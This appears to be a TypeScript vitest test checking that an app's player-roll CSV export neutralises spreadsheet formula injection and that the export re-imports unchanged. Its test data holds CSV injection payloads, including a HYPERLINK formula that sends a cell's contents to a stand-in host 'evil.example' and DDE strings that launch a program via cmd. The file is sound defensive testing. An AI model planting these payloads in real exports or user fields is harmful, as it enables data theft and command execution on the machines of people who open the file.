/**
 * CSV formula injection (issue 17.3): a player's name, club, contact or notes that a spreadsheet would run
 * as a formula is exported as text (a leading '), in every CSV the app writes (the club roll is the only
 * one: players.exportCsv, td players export), and an import of that export gives back exactly the roll.
 */
import { describe, expect, it } from 'vitest';
import Papa from 'papaparse';
import { must, tempBackend } from '../support/tempdb';

const ATTACKS = [
  '=HYPERLINK("http://evil.example/?"&A1,"Click")', '+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1+1)*cmd|\' /C calc\'!A0',
  '＝1+1', '=1+1\nsecond line', 'a-2', 'plain@example.org',
];

describe('CSV export neutralises formulas (issue 17.3)', () => {
  it('no exported cell starts with = + - @, a tab or a CR; the import of the export gives the same roll back', () => {
    const { backend } = tempBackend();
    must(backend, 'players.create', { name: '=cmd|\' /C calc\'!A0', club: '+Club', contact: '@handle', notes: '\t=1+1' });
    must(backend, 'players.create', { name: '-Negative', club: 'Rooks', rating: 1500, notes: '\r=2+2' });
    ATTACKS.forEach((notes, i) => must(backend, 'players.create', { name: `Player ${i}`, notes, contact: notes.split('\n')[0]! }));
    const { csv } = must<{ csv: string }>(backend, 'players.exportCsv', {});
    const cells = Papa.parse<string[]>(csv, { skipEmptyLines: true }).data.flat();
    const dangerous = cells.filter((c) => /^[=+\-@\t\r\uFF1D]/.test(c) && !/^-?\d+(\.\d+)?$/.test(c));
    expect(dangerous).toEqual([]);
    expect(cells).toContain("'=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")");
    expect(cells).toContain("'=1+1\nsecond line");
    expect(cells).toContain('a-2');

    const before = must<{ name: string; club: string; rating: number | null; contact: string; notes: string }[]>(backend, 'players.list', {});
    const other = tempBackend().backend;
    must(other, 'players.importCsv', { csv });
    const after = must<typeof before>(other, 'players.list', {});
    const fields = (list: typeof before) => list.map(({ name, club, rating, contact, notes }) => ({ name, club, rating, contact, notes }));
    expect(fields(after)).toEqual(fields(before));
  });
});
